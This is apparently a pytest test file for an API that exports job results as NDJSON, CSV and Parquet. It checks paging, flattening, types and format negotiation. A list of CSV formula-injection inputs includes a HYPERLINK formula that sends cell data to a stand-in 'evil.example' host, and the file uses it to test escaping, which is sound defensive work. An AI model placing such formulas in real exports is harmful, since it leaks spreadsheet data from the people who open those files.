"""Results in three formats: the same lines, whatever the records hold."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import pyarrow.parquet as pq
import pytest
from pydantic_core import to_json

from shoal.agent.status import Status
from shoal.agent.types import Basis, Computation, Outcome, Quotation
from shoal.agent.worker_messages import Work
from shoal.services.web.api.results import Format, accepted_format
from shoal.services.web.api.views.results import ResultView
from shoal.services.web.results.table import flatten
from shoal.services.web.results.table_files import _Pipe
from tests.gateway_world import World, api_world, completed, failed, loop_of

VALUES = [f"https://shop.example/p/{index}" for index in range(7)]
RECORDS: list[Any] = [
    {"name": "Kettle, 1.7 l", "price": 19.9, "stock": 4, "offer": True, "maker": {"name": 'Ä"x"', "a.b": 1}},
    {"name": "", "price": 20, "stock": None, "offer": False, "tags": ["a", "b"]},
    {"name": " two\nlines", "price": 1e-7, "stock": 0, "maker": {}},
    {"name": "=1+1", "price": 12345678901234567890, "stock": -1, "mixed": 5},
    {"name": "x", "price": 3, "mixed": "five"},
]
SCHEMA = {"type": "object", "properties": {"price": {"type": "number"}, "never": {"type": "string"}}}


@pytest.fixture
async def here() -> AsyncIterator[World]:
    async with api_world() as made:
        yield made


def answer(work: Work) -> Outcome:
    assert work.item is not None
    if work.item.index == 5:
        return failed()
    if work.item.index == 6:
        return completed(*RECORDS[:2])
    return completed(RECORDS[work.item.index], screenshot="ab" * 16)


async def make(here: World) -> str:
    job = await here.submit(loop={"values": VALUES}, extract={"schema": SCHEMA})
    await here.run(loop_of(VALUES, answer))
    return job


async def lines(here: World, job: str, query: str = "") -> list[dict[str, Any]]:
    got = await here.client.get(f"/v1/jobs/{job}/results{query}")
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in got.text.splitlines()]


async def test_lines_are_the_promised_objects_in_item_order(here: World) -> None:
    job = await make(here)
    got = await lines(here, job)
    assert [line["item"]["index"] for line in got] == [0, 1, 2, 3, 4, 5, 6, 6]
    assert [line["record"] for line in got] == [*RECORDS, None, *RECORDS[:2]]
    for line in got:
        assert list(line) == list(ResultView.model_fields)
        ResultView.model_validate(line | {"error": None})
    first, broken = got[0], got[5]
    assert first["job"] == job
    assert first["status"] == "completed"
    assert first["error"] is None
    assert first["screenshot"] == "ab" * 16
    assert first["usage"] == {"model_calls": 1, "prompt_tokens": 100, "completion_tokens": 20}
    assert first["sources"]["price"] == {"how": "json-ld", "where": "$.price", "confirmed": True} | {
        "sureness": "likely",
        "why": "",
    }
    assert first["attempts"] == 1
    assert broken["status"] == "failed"
    assert broken["sources"] == {}
    assert broken["error"] == {
        "class": "NavigationTimeout",
        "code": "navigation_timeout",
        "message": "The page did not load within its time.",
        "retryable": True,
    }


async def test_results_can_be_read_while_the_job_runs(here: World) -> None:
    job = await here.submit(loop={"values": VALUES})
    (root,) = await here.claim()
    await here.finish([root], loop_of(VALUES, answer))
    assert await lines(here, job) == []
    items = await here.claim()
    await here.finish(items[2:4], answer)
    assert [line["item"]["index"] for line in await lines(here, job)] == [2, 3]


@pytest.mark.parametrize("limit", [1, 2, 3, 7, 8, 100])
async def test_pages_by_cursor_give_every_line_once(here: World, limit: int) -> None:
    job = await make(here)
    whole, paged, query = await lines(here, job), [], f"?limit={limit}"
    while True:
        got = await here.client.get(f"/v1/jobs/{job}/results{query}")
        paged += [json.loads(line) for line in got.text.splitlines()]
        if "shoal-next" not in got.headers:
            break
        query = f"?limit={limit}&after={got.headers['shoal-next']}"
    assert paged == whole


async def test_a_foreign_cursor_is_refused(here: World) -> None:
    job = await make(here)
    for query in ("?after=zz", "?after=zz&limit=5", "?after=%00"):
        got = await here.client.get(f"/v1/jobs/{job}/results{query}")
        assert got.status_code == 400
        assert got.json()["errors"] == [{"field": "after", "reason": "is not a cursor"}]


def as_text(value: Any) -> str | None:
    if value is None or isinstance(value, str):
        return value
    return to_json(value).decode()


async def test_csv_holds_what_the_lines_hold(here: World) -> None:
    job = await make(here)
    got = await here.client.get(f"/v1/jobs/{job}/results?format=csv")
    assert got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"] == f'attachment; filename="{job}.csv"'
    rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
    expected = [flatten(line) for line in await lines(here, job)]
    assert len(rows) == len(expected)
    for row, line in zip(rows, expected, strict=True):
        assert set(line) - {"record"} <= set(row), "`record` itself is a column only where it is no object"
        for name, cell in row.items():
            value = line.get(name)
            if isinstance(value, float):
                assert float(cell) == value
            else:
                assert cell == (as_text(value) or ""), name
    assert rows[0]["record.maker.a\\.b"] == "1"
    assert rows[1]["record.tags"] == '["a","b"]'
    assert rows[2]["record.maker"] == "{}"


COMPUTED = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-x",
    "+",
)
PLAIN = ("-5", "+49", "-1.5", "1=1", " =1", "a-b", "+1,000.5", "")


async def test_csv_keeps_formulas_as_texts_where_that_is_asked(here: World) -> None:
    job = await here.submit()
    await here.run(lambda work: completed(*({"a": text, "n": -5, "f": -0.5} for text in COMPUTED + PLAIN)))

    async def cells(address: str) -> list[str]:
        rows = list(csv.DictReader(io.StringIO((await here.client.get(address)).text, newline="")))
        assert {(row["record.n"], row["record.f"]) for row in rows} == {("-5", "-0.5")}
        return [row["record.a"] for row in rows]

    as_given = [*COMPUTED, *PLAIN]
    assert await cells(f"/v1/jobs/{job}/results?format=csv") == as_given
    kept = [*(f"'{text}" for text in COMPUTED), *PLAIN]
    assert await cells(f"/v1/jobs/{job}/results?format=csv&formulas=false") == kept


async def test_csv_tells_null_from_an_empty_text(here: World) -> None:
    job = await here.submit(extract={"schema": {"type": "object", "properties": {"a": {}, "b": {}}}})
    await here.run(lambda work: completed({"a": "", "b": None}))
    text = (await here.client.get(f"/v1/jobs/{job}/results", headers={"Accept": "text/csv"})).text
    head, line = text.splitlines()
    place = head.split(",").index("record.a")
    assert line.split(",")[place : place + 2] == ['""', ""]


async def test_parquet_holds_what_the_lines_hold_with_types(here: World) -> None:
    job = await make(here)
    got = await here.client.get(
        f"/v1/jobs/{job}/results", headers={"Accept": "text/html, application/vnd.apache.parquet;q=0.9"}
    )
    assert got.headers["content-type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(got.content))
    expected = [flatten(line) for line in await lines(here, job)]
    rows = table.to_pylist()
    assert len(rows) == len(expected)
    for row, line in zip(rows, expected, strict=True):
        for name, cell in row.items():
            value = line.get(name)
            if name in ("record.price", "record.mixed"):
                value = as_text(value)
            assert cell == value, name
    types = {field.name: str(field.type) for field in table.schema}
    assert types["record.stock"] == "int64"
    assert types["record.offer"] == "bool"
    assert types["item.index"] == "int64"
    assert types["record.price"] == "string", "one price does not fit into 64 bits: text, rather than a wrong number"
    assert types["record.never"] == "string", "a field that no record has keeps its column"
    assert table.column_names[7:9] == ["record.price", "record.never"], "the schema's order comes first"


async def test_a_job_without_lines_gives_whole_files(here: World) -> None:
    job = await here.submit()
    assert await lines(here, job) == []
    text = (await here.client.get(f"/v1/jobs/{job}/results?format=csv")).text
    assert text.startswith("job,session,item.index,")
    assert text.count("\r\n") == 1
    content = (await here.client.get(f"/v1/jobs/{job}/results?format=parquet")).content
    assert pq.read_table(io.BytesIO(content)).num_rows == 0


async def test_many_row_groups_make_one_parquet_file(monkeypatch: pytest.MonkeyPatch, here: World) -> None:
    monkeypatch.setattr("shoal.services.web.results.table_files.GROUP_ROWS", 2)
    job = await make(here)
    content = (await here.client.get(f"/v1/jobs/{job}/results?format=parquet")).content
    file = pq.ParquetFile(io.BytesIO(content))
    assert file.num_row_groups == 4
    assert file.read().num_rows == 8


def test_the_pipe_counts_on_when_its_bytes_are_taken() -> None:
    pipe = _Pipe()
    pipe.write(b"abc")
    assert (pipe.take_bytes(), pipe.take_bytes(), pipe.tell()) == (b"abc", b"", 3)
    pipe.write(memoryview(b"de"))
    assert (pipe.take_bytes(), pipe.tell()) == (b"de", 5)


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("*/*", Format.JSONL),
        ("", Format.JSONL),
        ("text/html", Format.JSONL),
        ("text/csv", Format.CSV),
        ("text/csv;q=0.5, application/vnd.apache.parquet", Format.PARQUET),
        ("text/csv, application/x-ndjson", Format.CSV),
        ("text/csv;q=0, application/x-ndjson", Format.JSONL),
        ("TEXT/CSV;q=nonsense", Format.JSONL),
    ],
)
def test_the_accept_header_chooses_the_format(accept: str, form: Format) -> None:
    assert accepted_format(accept) is form


# --- answers -----------------------------------------------------------------------------------------

BASIS = Basis(
    (Quotation("19.90 EUR", "https://shop.example/p/1", "Kettle 19.90 EUR"),),
    (0, 1),
    Computation("average", (19.9, 20), 19.95),
)


def text_answer(work: Work) -> Outcome:
    return Outcome(Status.COMPLETED, answer="They cost 19.95 EUR, on average", rests_on=BASIS)


async def test_an_answer_is_in_every_format_and_at_the_job(here: World) -> None:
    job = await here.submit(goal="What do they cost?")
    await here.run(text_answer)
    (line,) = await lines(here, job)
    assert (line["record"], line["answer"]) == (None, "They cost 19.95 EUR, on average")
    assert line["rests_on"]["computed"] == {"operation": "average", "values": [19.9, 20], "result": 19.95}
    assert line["rests_on"]["quotations"][0]["where"] == "Kettle 19.90 EUR"
    (row,) = csv.DictReader(io.StringIO((await here.client.get(f"/v1/jobs/{job}/results?format=csv")).text))
    assert (row["answer"], json.loads(row["rests_on"])["records"]) == (line["answer"], [0, 1])
    whole = await here.client.get(f"/v1/jobs/{job}/results?format=parquet")
    assert pq.read_table(io.BytesIO(whole.content)).column("answer").to_pylist() == [line["answer"]]
    at_job = (await here.client.get(f"/v1/jobs/{job}")).json()
    assert (at_job["answer"], at_job["rests_on"]) == (line["answer"], line["rests_on"])


async def test_the_answer_of_a_job_with_a_loop_stands_in_front_of_its_items(here: World) -> None:
    job = await here.submit(goal="What do they cost?", loop={"values": VALUES[:2]})

    def decide(work: Work) -> Outcome:
        if work.item is not None:
            return answer(work)
        return text_answer(work) if work.children is not None else loop_of(VALUES[:2], answer)(work)

    await here.run(decide)
    got = await lines(here, job)
    assert [(line["item"] and line["item"]["index"], bool(line["answer"])) for line in got] == [
        (None, True),
        (0, False),
        (1, False),
    ]
